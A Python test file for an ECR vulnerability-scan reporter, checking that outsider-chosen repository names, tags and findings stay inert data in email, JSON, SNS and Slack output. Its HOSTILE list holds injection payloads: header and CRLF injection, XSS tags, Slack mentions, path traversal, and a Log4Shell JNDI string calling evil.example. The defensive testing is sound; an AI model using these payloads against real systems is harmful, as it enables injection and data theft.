"""Text that people outside choose comes out as data in every format.

Whoever pushes an image names repositories and tags; a vulnerability database and an image's own metadata name findings,
packages, versions, paths and links. None of that may add a line, a link, markup or a field.
"""

import json
import re
from datetime import UTC, datetime
from urllib.parse import unquote, urlsplit

import hypothesis
import pytest
from ecr_scan_reporter.aws.sns import MAX_MESSAGE, ReportMessage
from ecr_scan_reporter.models.findings import Finding
from ecr_scan_reporter.reporting.comparison.changes import Change, KnownFinding
from ecr_scan_reporter.reporting.reports.groups import Group
from ecr_scan_reporter.reporting.reports.image_report import ImageReport
from ecr_scan_reporter.reporting.reports.reasons import ReportReason
from ecr_scan_reporter.reporting.reports.sns_messages import build_message, build_pages
from hypothesis import given
from hypothesis import strategies as st
from support import schemas
from support.invocations import REGISTRY
from support.random_tests import examples
from support.reporter_settings import SETTINGS

NOW = datetime(2026, 11, 23, 9, 14, tzinfo=UTC)
HOSTILE = [
    "a\r\nBcc: all@example.com\r\n\r\nA second mail",
    "<!channel> <@U0123456789> & <https://evil.example|click>",
    "[click](https://evil.example) *bold* _it_ ~no~ `code` ```block```",
    '"},"default":"x","email":"y',
    '{"default": 1}\\',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "../../../../evil.example/?region=x#f",
    "javascript:alert(1)",
    "%0d%0aSet-Cookie: a=b",
    "\u202eoverride\u2066 \x00 \x1b[31m \u2028 \u0085",
    "${jndi:ldap://evil.example/a} {{7*7}} %s %n {0}",
    "=HYPERLINK(1)",
    "日本語/イメージ 🐳",
    "x" * 500,
    "`" * 300,
]
# Repositories, tags and the like arrive without lone surrogates, which cannot be encoded.
ANYTHING = st.sampled_from(HOSTILE) | st.text(st.characters(codec="utf-8"), min_size=1, max_size=80)


def group_of(text: str) -> Group:
    """Return a report with the text in every place that has one."""
    finding = Finding(
        id=text,
        severity="HIGH",
        package=text,
        installed_versions=(text,),
        fixed_versions=(text,),
        paths=(text,),
        fix_available=True,
        url="https://example.com/",
        aliases=(text,),
    )
    known = KnownFinding(finding, NOW)
    news = ImageReport(
        ReportReason.NEWS,
        "123456789012",
        "eu-west-1",
        text,
        text,
        (text, text),
        (text,),
        NOW,
        predecessor=text,
        counts={"HIGH": 2},
        totals={Change.NEW: {"HIGH": 1}, Change.STILL_OPEN: {"HIGH": 1}},
        changes={Change.NEW: (known,), Change.STILL_OPEN: (known,)},
        digests=(text,),
    )
    unread = ImageReport(
        ReportReason.FINDINGS_NOT_READ,
        "123456789012",
        "eu-west-1",
        "b",
        "sha256:2",
        (),
        (),
        NOW,
        counts={"HIGH": 1},
        failure=text,
        digests=("sha256:2",),
    )
    failed = ImageReport(
        ReportReason.SCAN_FAILED, "123456789012", "eu-west-1", text, "sha256:3", (text,), (), NOW, failure=text
    )
    return Group(REGISTRY, text, (news, unread), (failed,))


def message_of(text: str) -> ReportMessage:
    """Return the only message of a report."""
    [page] = build_pages(group_of(text), SETTINGS)
    return build_message(page, SETTINGS)


def lines_of(text: str) -> int:
    """Return how many lines the mail has."""
    return len(message_of(text).email.split("\n"))


def some(values: list[str] = HOSTILE) -> pytest.MarkDecorator:
    """Run a test for each hostile text."""
    return pytest.mark.parametrize("text", values, ids=range(len(values)))


@some()
def test_mail_keeps_its_lines_and_hides_nothing(text: str) -> None:
    message = message_of(text)
    assert all(line.isprintable() for line in message.email.split("\n"))
    assert abs(lines_of(text) - lines_of("harmless")) <= 6  # a long text moves what follows to a line of its own
    assert not re.search("^(Bcc|A second mail)", message.email, re.MULTILINE)


@some()
def test_subject_is_one_line_of_printable_ascii(text: str) -> None:
    subject = message_of(text).subject
    assert re.fullmatch("[ -~]{1,99}", subject)
    assert subject.startswith("[ECR] ")


@some()
def test_json_document_has_the_text_unchanged_and_no_other_field(text: str) -> None:
    document = json.loads(message_of(text).document)
    schemas.REPORT.validate(document)
    [image, _] = document["images"]
    [finding] = image["changes"]["new"]
    names = (document["group"], image["repository"], image["tags"][0], image["predecessor"], finding["id"])
    assert {*names, finding["package"], document["failed_scans"][0]["reason"]} == {text}


@some()
def test_sns_message_has_only_the_keys_of_the_module(text: str) -> None:
    report, chat = message_of(text).publications
    assert json.loads(report.parameters["Message"]).keys() == {"default", "email"}
    assert report.parameters.keys() == {"Subject", "Message", "MessageStructure", "MessageAttributes"}
    assert report.size <= MAX_MESSAGE
    assert json.loads(chat.parameters["Message"]).keys() == {"version", "source", "id", "content", "metadata"}


@some()
def test_chat_shows_the_text_in_code_spans_alone(text: str) -> None:
    content = json.loads(message_of(text).chat)["content"]
    description = content["description"]
    assert description.count("`") % 2 == 0
    outside = re.sub(r"`[^`\n]*`|\(https://eu-west-1\.console\.aws\.amazon\.com/[^)\s]*\)", "", description)
    harmless = json.loads(message_of("harmless").chat)["content"]["description"]
    assert outside == re.sub(r"`[^`\n]*`|\(https://eu-west-1\.console\.aws\.amazon\.com/[^)\s]*\)", "", harmless)
    # Slack reads commands such as <!channel> in code spans as well.
    assert "<" not in description
    assert content["title"] == json.loads(message_of("harmless").chat)["content"]["title"]


@some()
def test_link_leads_to_the_console_of_aws(text: str) -> None:
    image = json.loads(message_of(text).document)["images"][0]
    url = urlsplit(image["console_url"])
    assert (url.scheme, url.netloc) == ("https", "eu-west-1.console.aws.amazon.com")
    assert (url.query, url.fragment) == ("region=eu-west-1", "")
    assert url.path.startswith("/ecr/repositories/private/123456789012/")
    assert unquote(url.path).endswith(f"/_/image/{text}/scan-results")
    assert re.fullmatch("[!-~]+", image["console_url"])


@given(ANYTHING)
@hypothesis.settings(max_examples=examples(1000))
def test_any_text_is_data_in_every_format(text: str) -> None:
    message = message_of(text)
    assert all(line.isprintable() for line in message.email.split("\n"))
    assert re.fullmatch("[ -~]{1,99}", message.subject)
    assert json.loads(message.document)["images"][0]["repository"] == text
    description = json.loads(message.chat)["content"]["description"]
    assert description.count("`") % 2 == 0
    assert "<" not in description
    report, *_ = message.publications
    assert json.loads(report.parameters["Message"])["default"] == message.document
